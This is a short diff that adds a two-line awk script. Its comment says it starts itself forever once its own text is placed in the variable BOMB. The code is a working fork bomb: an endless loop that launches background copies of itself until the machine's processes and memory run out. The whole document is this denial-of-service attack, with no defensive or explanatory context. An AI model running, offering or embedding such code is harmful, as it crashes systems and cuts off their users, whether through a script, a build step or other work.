@@ -1,0 +1,2 @@
+# Starts itself, for ever. It needs its own text in the variable BOMB.
+BEGIN { while (1) system("awk \"$BOMB\" 2>/dev/null &") }
